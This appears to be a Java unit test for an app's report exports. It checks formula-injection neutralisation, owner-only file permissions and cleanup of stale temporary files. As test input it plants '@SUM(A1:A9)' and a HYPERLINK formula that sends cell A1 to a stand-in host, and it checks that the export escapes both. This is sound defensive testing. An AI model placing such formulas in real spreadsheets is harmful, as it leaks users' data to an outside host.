package app.latentledger.report;

import app.latentledger.core.records.Visit;
import app.latentledger.core.units.UnitSystem;
import app.latentledger.store.DemoScenario;
import app.latentledger.store.Ledger;
import app.latentledger.store.TestLedgers;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * What reports and data exports leave on disk: text cells a spreadsheet cannot run as formulas
 * (OWASP, "CSV Injection": a leading = + - @, tab or carriage return), files readable by the
 * tech's account only, and no temporary file of a killed run left next to them.
 */
class OutputFilesTest {
    @TempDir
    Path dir;

    @Test
    void formulaLeadingNotesAreWrittenAsText() throws Exception {
        try (Ledger ledger = TestLedgers.withDemo(dir.resolve("data"))) {
            Visit v = ledger.visits().find(DemoScenario.VISIT_COMPLAINT).orElseThrow();
            ledger.visits().save(new Visit(v.id(), v.siteId(), v.systemId(), v.startedAt(), "@SUM(A1:A9)", v.purpose(),
                    "=HYPERLINK(\"http://example.invalid/\"&A1,\"click\")"));
            Path csv = VisitDataExport.write(ledger, v.id(), VisitDataExport.Format.CSV, UnitSystem.IP, dir.resolve("d.csv"));
            String text = Files.readString(csv);
            boolean sawNote = false;
            try (CSVParser p = CSVParser.parse(new StringReader(text), CSVFormat.RFC4180.builder().setHeader()
                    .setSkipHeaderRecord(true).get())) {
                for (CSVRecord r : p) {
                    for (String cell : r) {
                        if (cell.isEmpty()) {
                            continue;
                        }
                        char c = cell.charAt(0);
                        boolean number = cell.matches("-?[0-9.E]+");
                        assertTrue(number || !(c == '=' || c == '+' || c == '@' || c == '-' || c == '\t'),
                                "cell starts a formula: " + cell);
                        sawNote |= cell.equals("'=HYPERLINK(\"http://example.invalid/\"&A1,\"click\")");
                    }
                }
            }
            assertTrue(sawNote, "the note is kept, behind an apostrophe");
            assertEquals("'-5", VisitDataExport.cell("-5"), "a text cell is neutralised even when it looks numeric");
            assertEquals("plain", VisitDataExport.cell("plain"));
        }
    }

    @Test
    void reportsAndExportsAreReadableByTheOwnerOnly() throws Exception {
        Assumptions.assumeTrue(dir.getFileSystem().supportedFileAttributeViews().contains("posix"));
        try (Ledger ledger = TestLedgers.withDemo(dir.resolve("data"))) {
            Path csv = VisitDataExport.write(ledger, DemoScenario.VISIT_COMPLAINT, VisitDataExport.Format.CSV,
                    UnitSystem.IP, dir.resolve("d.csv"));
            Path json = VisitDataExport.write(ledger, DemoScenario.VISIT_COMPLAINT, VisitDataExport.Format.JSON,
                    UnitSystem.IP, dir.resolve("d.json"));
            Path bundle = dir.resolve("v.zip");
            app.latentledger.bundle.Bundles.exportVisit(ledger, DemoScenario.VISIT_COMPLAINT, bundle);
            for (Path p : new Path[] {csv, json, bundle}) {
                assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(p)), p.toString());
            }
        }
    }

    @Test
    void aKilledRunsTemporaryFileIsRemovedByTheNextWrite() throws Exception {
        // a pid that is not running: the highest possible on Linux is 4 194 304
        Path stale = Files.writeString(dir.resolve(".d.csv.4194999-123.part"), "half");
        Path mine = Files.writeString(dir.resolve(".d.csv." + ProcessHandle.current().pid() + "-9.part"), "in use");
        Path other = Files.writeString(dir.resolve(".other.csv.4194999-1.part"), "another target");
        try (Ledger ledger = TestLedgers.withDemo(dir.resolve("data"))) {
            VisitDataExport.write(ledger, DemoScenario.VISIT_COMPLAINT, VisitDataExport.Format.CSV, UnitSystem.IP,
                    dir.resolve("d.csv"));
        }
        assertFalse(Files.exists(stale), "left by a process no longer running");
        assertTrue(Files.exists(mine), "a running process's file is never touched");
        assertTrue(Files.exists(other), "only the target's own leftovers");
    }
}
